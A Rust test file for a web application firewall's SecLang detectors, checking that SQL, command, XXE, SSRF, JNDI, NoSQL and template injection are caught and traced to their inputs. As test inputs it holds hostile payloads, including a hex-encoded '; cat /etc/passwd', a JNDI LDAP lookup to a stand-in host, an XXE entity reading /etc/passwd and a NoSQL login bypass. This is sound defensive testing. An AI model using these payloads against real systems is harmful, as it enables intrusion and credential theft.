//! The input stage and the detectors through SecLang: INPUTS, INPUTS_DECODED and
//! DETECTIONS, the detector operators, the lineage in MATCHED_VAR_NAME and
//! MATCHED_VAR, and the scopes (which detectors judge which inputs).

use engine::{RulesetBuilder, Transaction, TxContext};
use std::sync::Arc;

fn ruleset(text: &str) -> Arc<engine::Ruleset> {
    let mut b = RulesetBuilder::new(Arc::new(seclang::MemorySource::new()));
    b.add_text(text, "test.conf")
        .unwrap_or_else(|e| panic!("{e}"));
    Arc::new(b.build().unwrap_or_else(|e| panic!("{e}")))
}

/// Each class's DETECTIONS rule records what it matched in `tx.<class>`: the
/// lineage of the input the detector found its attack in.
const RULES: &str = r#"
SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "@rx ^application/json" "id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRule REQUEST_HEADERS:Content-Type "@rx ^text/xml" "id:2,phase:1,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule DETECTIONS:sql "@unconditionalMatch" "id:10,phase:2,pass,nolog,setvar:'tx.sql=%{MATCHED_VAR}'"
SecRule DETECTIONS:xss "@unconditionalMatch" "id:11,phase:2,pass,nolog,setvar:'tx.xss=%{MATCHED_VAR}'"
SecRule DETECTIONS:cmd "@unconditionalMatch" "id:12,phase:2,pass,nolog,setvar:'tx.cmd=%{MATCHED_VAR}'"
SecRule DETECTIONS:xxe "@unconditionalMatch" "id:13,phase:2,pass,nolog,setvar:'tx.xxe=%{MATCHED_VAR}'"
SecRule DETECTIONS:ssrf "@unconditionalMatch" "id:14,phase:2,pass,nolog,setvar:'tx.ssrf=%{MATCHED_VAR}'"
SecRule DETECTIONS:jndi "@unconditionalMatch" "id:15,phase:2,pass,nolog,setvar:'tx.jndi=%{MATCHED_VAR}'"
SecRule DETECTIONS:nosql "@unconditionalMatch" "id:16,phase:2,pass,nolog,setvar:'tx.nosql=%{MATCHED_VAR}'"
SecRule DETECTIONS:template "@unconditionalMatch" "id:17,phase:2,pass,nolog,setvar:'tx.template=%{MATCHED_VAR}'"
SecRule INPUTS_DECODED "@detectCmdInjection" "id:20,phase:2,pass,nolog,setvar:'tx.decoded_cmd=%{MATCHED_VAR_NAME}'"
SecRule INPUTS "@detectSqlContext" "id:21,phase:2,pass,nolog,setvar:'tx.op_sql=%{MATCHED_VAR_NAME}'"
SecRule INPUTS "@confirmSqlSyntax" "id:22,phase:2,pass,nolog,setvar:'tx.confirm=%{MATCHED_VAR_NAME}'"
"#;

fn run(uri: &str, headers: &[(&str, &str)], body: &[u8]) -> Transaction {
    let mut tx = Transaction::new(ruleset(RULES), TxContext::default());
    tx.set_request_line(b"POST", uri.as_bytes(), b"HTTP/1.1");
    tx.add_request_header(b"Host", b"example.com");
    for (k, v) in headers {
        tx.add_request_header(k.as_bytes(), v.as_bytes());
    }
    tx.add_request_header(b"Content-Length", body.len().to_string().as_bytes());
    assert!(tx.process_request_headers().is_none());
    if tx.request_body_wanted() {
        let _ = tx.append_request_body(body);
    }
    assert!(tx.process_request_body().is_none());
    tx
}

fn var(tx: &Transaction, name: &str) -> Option<String> {
    tx.tx_var(name)
        .map(|v| String::from_utf8_lossy(v).into_owned())
}

#[test]
fn decoded_values_carry_their_lineage() {
    // `{"user":{"name":"x' OR 1=1--"}}` in base64, and `; cat /etc/passwd` in hex.
    let tx = run(
        "/report?data=eyJ1c2VyIjp7Im5hbWUiOiJ4JyBPUiAxPTEtLSJ9fQ==&h=3b20636174202f6574632f706173737764",
        &[],
        b"",
    );
    assert_eq!(
        var(&tx, "sql").as_deref(),
        Some("ARGS:data|base64|json:user.name")
    );
    assert_eq!(var(&tx, "cmd").as_deref(), Some("ARGS:h|hex"));
    assert_eq!(
        var(&tx, "decoded_cmd").as_deref(),
        Some("INPUTS_DECODED:ARGS:h|hex")
    );
    // The parsed value itself is not SQL; its decoding is.
    assert_eq!(var(&tx, "op_sql"), None);
}

#[test]
fn every_header_and_path_segment_is_an_input() {
    let tx = run(
        "/api/items/1%27%20OR%20%271%27%3D%271",
        &[
            ("X-Callback-Url", "http://169.254.169.254/latest/meta-data/"),
            ("Accept", "${jndi:ldap://x.example/a}"),
        ],
        b"",
    );
    assert_eq!(var(&tx, "sql").as_deref(), Some("REQUEST_FILENAME:3"));
    assert_eq!(
        var(&tx, "ssrf").as_deref(),
        Some("REQUEST_HEADERS:X-Callback-Url")
    );
    assert_eq!(var(&tx, "jndi").as_deref(), Some("REQUEST_HEADERS:Accept"));
    assert_eq!(
        var(&tx, "op_sql").as_deref(),
        Some("INPUTS:REQUEST_FILENAME:3")
    );
}

#[test]
fn scopes_keep_detectors_to_what_they_judge() {
    // A browser's Referer names internal pages; structured headers get only the
    // JNDI and line-break detectors, also in what their decodings yield.
    let tx = run(
        "/",
        &[
            ("Referer", "http://127.0.0.1:8080/admin"),
            ("Accept", "text/html;q=0.9,'%20OR%20'1'='1"),
        ],
        b"",
    );
    assert_eq!(var(&tx, "ssrf"), None);
    assert_eq!(var(&tx, "sql"), None);
    // An XML document's markup is XML's: an RSS <link> is no XSS. Its text is an
    // input, and its document type is looked at for external entities.
    let rss = br#"<?xml version="1.0"?><rss version="2.0"><channel><title>Notes</title><link>https://blog.example.org/</link><description>&lt;p&gt;Hello&lt;/p&gt;</description></channel></rss>"#;
    let tx = run("/feeds", &[("Content-Type", "text/xml")], rss);
    assert_eq!(var(&tx, "xss"), None);
    assert_eq!(var(&tx, "xxe"), None);
    let xxe =
        br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#;
    let tx = run("/soap", &[("Content-Type", "text/xml")], xxe);
    assert_eq!(var(&tx, "xxe").as_deref(), Some("REQUEST_BODY"));
    // A JSON body's operators are judged with their operands, in the raw body.
    let tx = run(
        "/login",
        &[("Content-Type", "application/json")],
        br#"{"user":"admin","password":{"$ne":null}}"#,
    );
    assert_eq!(var(&tx, "nosql").as_deref(), Some("REQUEST_BODY"));
    let tx = run(
        "/search",
        &[("Content-Type", "application/json")],
        br#"{"filter":{"age":{"$gte":18}},"note":"<b>bold</b>"}"#,
    );
    assert_eq!(var(&tx, "nosql"), None);
    assert_eq!(var(&tx, "xss"), None);
}

#[test]
fn prose_and_code_are_not_sql() {
    let tx = run(
        "/search?q=Sleep(8%20hours)%20or%20a%20union%20select%20committee",
        &[],
        b"",
    );
    assert_eq!(var(&tx, "sql"), None);
    assert_eq!(var(&tx, "confirm"), None);
}

#[test]
fn raw_bodies_without_a_processor() {
    // Text is judged whole; binary data (an upload) only for serialized objects.
    let tx = run(
        "/notes",
        &[("Content-Type", "text/plain")],
        b"hello {{7*7}} world",
    );
    assert_eq!(var(&tx, "template").as_deref(), Some("REQUEST_BODY"));
    let mut binary: Vec<u8> = (0..2048u32)
        .map(|i| (i * 7919 % 251) as u8 | 0x80)
        .collect();
    binary.extend_from_slice(b"{{7*7}}");
    let tx = run(
        "/upload",
        &[("Content-Type", "application/octet-stream")],
        &binary,
    );
    assert_eq!(var(&tx, "template"), None);
}
